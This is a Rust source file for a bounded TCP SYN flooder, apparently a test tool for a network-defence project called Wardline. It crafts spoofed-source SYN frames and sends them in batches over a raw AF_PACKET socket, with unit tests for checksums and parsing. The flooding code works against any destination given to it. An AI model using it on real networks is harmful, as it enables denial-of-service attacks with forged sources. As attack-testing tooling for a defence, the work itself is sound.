//! `wardline-flood`: a bounded TCP SYN flooder for Wardline's attack tests
//! (`ip netns exec NAME wardline-flood ...`).
//!
//! Sends IPv4 TCP SYNs out of one interface through an `AF_PACKET` socket,
//! each from a different (spoofed source address, source port) pair: the
//! source addresses of `--src-prefix` in turn, then the next source port.
//! The frames are written in place in a batch buffer and sent with
//! `sendmmsg`. Stops after `--count` frames or `--seconds`, whichever comes
//! first, and prints `sent=N elapsed_ms=M`.

use std::net::{IpAddr, Ipv4Addr};
use std::process::ExitCode;
use std::time::{Duration, Instant};

use clap::Parser;
use nix::libc;
use wardline_tests::frame::{self, FrameSpec, Mac, PROTO_TCP, TCP_SYN, Transport};

/// Frames per `sendmmsg` call.
const BATCH: usize = 256;
/// Ethernet, IPv4 and TCP headers, no options, no payload.
const FRAME_LEN: usize = 14 + 20 + 20;
/// The first source port used.
const FIRST_SPORT: u16 = 1024;

#[derive(Parser)]
#[command(
    name = "wardline-flood",
    about = "Bounded TCP SYN flood from spoofed IPv4 sources, for Wardline's attack tests"
)]
struct Cli {
    /// The interface to send on.
    #[arg(long)]
    interface: String,
    /// The next hop's MAC address (aa:bb:cc:dd:ee:ff).
    #[arg(long)]
    dst_mac: String,
    /// The destination address.
    #[arg(long)]
    dst: Ipv4Addr,
    /// The destination port.
    #[arg(long)]
    dport: u16,
    /// The spoofed source addresses, as ADDR/LEN (LEN 16 to 32).
    #[arg(long)]
    src_prefix: String,
    /// The most frames to send.
    #[arg(long)]
    count: u64,
    /// The most seconds to send for.
    #[arg(long)]
    seconds: u64,
}

fn main() -> ExitCode {
    let cli = Cli::parse();
    match flood(&cli) {
        Ok((sent, elapsed)) => {
            println!("sent={sent} elapsed_ms={}", elapsed.as_millis());
            ExitCode::SUCCESS
        }
        Err(err) => {
            eprintln!("wardline-flood: {err}");
            ExitCode::FAILURE
        }
    }
}

fn parse_mac(text: &str) -> Result<Mac, String> {
    frame::parse_mac(text).map_err(|e| e.to_string())
}

fn parse_prefix(text: &str) -> Result<(u32, u32), String> {
    let (addr, len) = text
        .split_once('/')
        .ok_or_else(|| format!("`{text}` is not ADDR/LEN"))?;
    let addr: Ipv4Addr = addr
        .parse()
        .map_err(|_| format!("`{text}` is not ADDR/LEN"))?;
    let len: u32 = len
        .parse()
        .ok()
        .filter(|l| (16..=32).contains(l))
        .ok_or_else(|| format!("`{text}`: the length must be 16 to 32"))?;
    let size = 1u32 << (32 - len);
    Ok((u32::from(addr) & !(size - 1), size))
}

/// The IPv4 addresses of `syn`'s header.
fn addresses(syn: &[u8]) -> (IpAddr, IpAddr) {
    let ip = |at: usize| IpAddr::from(<[u8; 4]>::try_from(&syn[at..at + 4]).expect("4 bytes"));
    (ip(26), ip(30))
}

/// Writes the SYN from `src:sport` into `syn`, whose other bytes hold the
/// template.
fn fill(syn: &mut [u8], src: u32, sport: u16, seq: u32) {
    syn[26..30].copy_from_slice(&src.to_be_bytes());
    syn[34..36].copy_from_slice(&sport.to_be_bytes());
    syn[38..42].copy_from_slice(&seq.to_be_bytes());
    syn[24..26].copy_from_slice(&[0, 0]);
    let ip_sum = frame::internet_checksum(&syn[14..34]);
    syn[24..26].copy_from_slice(&ip_sum.to_be_bytes());
    syn[50..52].copy_from_slice(&[0, 0]);
    let (from, to) = addresses(syn);
    let tcp_sum = frame::transport_checksum(from, to, PROTO_TCP, &syn[34..54]);
    syn[50..52].copy_from_slice(&tcp_sum.to_be_bytes());
}

/// The SYN towards `dst:dport` that [`fill`] completes: IPv4 (identification
/// 0, don't fragment, TTL 64), TCP with no options (window 64240), no
/// payload; source address and port zero.
fn template(src_mac: Mac, dst_mac: Mac, dst: Ipv4Addr, dport: u16) -> [u8; FRAME_LEN] {
    let syn = FrameSpec {
        dst_mac,
        src_mac,
        vlan: None,
        src: IpAddr::V4(Ipv4Addr::UNSPECIFIED),
        dst: IpAddr::V4(dst),
        ttl: 64,
        ip_id: 0,
        transport: Transport::Tcp {
            sport: 0,
            dport,
            flags: TCP_SYN,
            seq: 0,
            ack: 0,
        },
        payload: Vec::new(),
    };
    let built = frame::build(&syn).expect("an IPv4 SYN without payload is always built");
    built
        .try_into()
        .expect("Ethernet, IPv4 and TCP headers without options")
}

fn flood(cli: &Cli) -> Result<(u64, Duration), String> {
    let dst_mac = parse_mac(&cli.dst_mac)?;
    let (base, size) = parse_prefix(&cli.src_prefix)?;
    let mac_path = format!("/sys/class/net/{}/address", cli.interface);
    let src_mac = std::fs::read_to_string(&mac_path)
        .map_err(|e| format!("{mac_path}: {e}"))
        .and_then(|m| parse_mac(m.trim()))?;
    let ifindex = nix::net::if_::if_nametoindex(cli.interface.as_str())
        .map_err(|e| format!("interface {}: {e}", cli.interface))?;
    let fd = packet_socket(ifindex)?;

    let tuples = u64::from(size) * u64::from(u16::MAX - FIRST_SPORT + 1);
    let count = cli.count.min(tuples);
    let template = template(src_mac, dst_mac, cli.dst, cli.dport);
    let mut frames = vec![template; BATCH];
    let started = Instant::now();
    let deadline = started + Duration::from_secs(cli.seconds);
    let mut sent = 0u64;
    while sent < count && Instant::now() < deadline {
        let n = usize::try_from((count - sent).min(BATCH as u64)).unwrap_or(BATCH);
        for (i, frame) in frames.iter_mut().take(n).enumerate() {
            let k = sent + i as u64;
            let src = base + (k % u64::from(size)) as u32;
            let sport = FIRST_SPORT + (k / u64::from(size)) as u16;
            fill(frame, src, sport, k as u32);
        }
        let done = send_batch(&fd, &mut frames[..n])?;
        sent += done as u64;
    }
    Ok((sent, started.elapsed()))
}

/// An `AF_PACKET` raw socket bound to `ifindex` for sending only
/// (protocol 0: it receives nothing), past the queueing discipline.
fn packet_socket(ifindex: u32) -> Result<std::os::fd::OwnedFd, String> {
    use std::os::fd::FromRawFd;
    // SAFETY: plain system call with constant arguments.
    let raw = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, 0) };
    if raw < 0 {
        return Err(format!(
            "AF_PACKET socket: {}",
            std::io::Error::last_os_error()
        ));
    }
    // SAFETY: `raw` is a descriptor just returned and owned by nobody else.
    let fd = unsafe { std::os::fd::OwnedFd::from_raw_fd(raw) };
    let addr = libc::sockaddr_ll {
        sll_family: libc::AF_PACKET as u16,
        sll_protocol: 0,
        sll_ifindex: i32::try_from(ifindex).map_err(|_| "ifindex out of range".to_owned())?,
        sll_hatype: 0,
        sll_pkttype: 0,
        sll_halen: 0,
        sll_addr: [0; 8],
    };
    // SAFETY: `addr` is a valid sockaddr_ll of the size given.
    let ret = unsafe {
        libc::bind(
            raw,
            std::ptr::from_ref(&addr).cast(),
            std::mem::size_of::<libc::sockaddr_ll>() as libc::socklen_t,
        )
    };
    if ret < 0 {
        return Err(format!(
            "bind to ifindex {ifindex}: {}",
            std::io::Error::last_os_error()
        ));
    }
    let one: libc::c_int = 1;
    // SAFETY: `one` is a c_int option value of the size given. Failing is
    // harmless: the frames then go through the (empty) qdisc.
    let _ = unsafe {
        libc::setsockopt(
            raw,
            libc::SOL_PACKET,
            libc::PACKET_QDISC_BYPASS,
            std::ptr::from_ref(&one).cast(),
            std::mem::size_of::<libc::c_int>() as libc::socklen_t,
        )
    };
    Ok(fd)
}

/// Sends every frame of `frames` (retrying on a short count); returns how
/// many were sent.
fn send_batch(fd: &std::os::fd::OwnedFd, frames: &mut [[u8; FRAME_LEN]]) -> Result<usize, String> {
    use std::os::fd::AsRawFd;
    let mut iovecs: Vec<libc::iovec> = frames
        .iter_mut()
        .map(|f| libc::iovec {
            iov_base: f.as_mut_ptr().cast(),
            iov_len: FRAME_LEN,
        })
        .collect();
    let mut headers: Vec<libc::mmsghdr> = iovecs
        .iter_mut()
        .map(|iov| {
            // SAFETY: mmsghdr is plain data; all-zero is a valid value.
            let mut h: libc::mmsghdr = unsafe { std::mem::zeroed() };
            h.msg_hdr.msg_iov = std::ptr::from_mut(iov);
            h.msg_hdr.msg_iovlen = 1;
            h
        })
        .collect();
    let mut done = 0;
    while done < headers.len() {
        let rest = &mut headers[done..];
        // SAFETY: `rest` holds initialised mmsghdrs whose iovecs point into
        // `frames`, all alive and unaliased for the duration of the call.
        let n = unsafe {
            libc::sendmmsg(
                fd.as_raw_fd(),
                rest.as_mut_ptr(),
                rest.len() as libc::c_uint,
                0,
            )
        };
        if n < 0 {
            let err = std::io::Error::last_os_error();
            if err.raw_os_error() == Some(libc::ENOBUFS)
                || err.kind() == std::io::ErrorKind::Interrupted
            {
                std::thread::yield_now();
                continue;
            }
            return Err(format!("sendmmsg: {err}"));
        }
        done += n as usize;
    }
    Ok(done)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_carry_valid_checksums() {
        let mut f = template([2; 6], [4; 6], Ipv4Addr::new(198, 18, 41, 10), 8080);
        fill(&mut f, u32::from(Ipv4Addr::new(203, 0, 113, 7)), 4242, 1);
        assert_eq!(
            frame::internet_checksum(&f[14..34]),
            0,
            "IPv4 header checksum"
        );
        let (src, dst) = addresses(&f);
        assert_eq!(
            frame::transport_checksum(src, dst, PROTO_TCP, &f[34..54]),
            0,
            "TCP checksum"
        );
        assert_eq!(&f[26..30], &[203, 0, 113, 7]);
        assert_eq!(&f[34..36], &4242u16.to_be_bytes());
        assert_eq!(f[47], 0x02, "SYN only");
    }

    #[test]
    fn prefixes_and_macs_parse() {
        assert_eq!(
            parse_prefix("203.0.113.9/24"),
            Ok((u32::from(Ipv4Addr::new(203, 0, 113, 0)), 256))
        );
        assert!(parse_prefix("203.0.113.0/8").is_err());
        assert_eq!(parse_mac("02:00:00:00:00:0a"), Ok([2, 0, 0, 0, 0, 10]));
        assert!(parse_mac("02:00:00").is_err());
    }
}
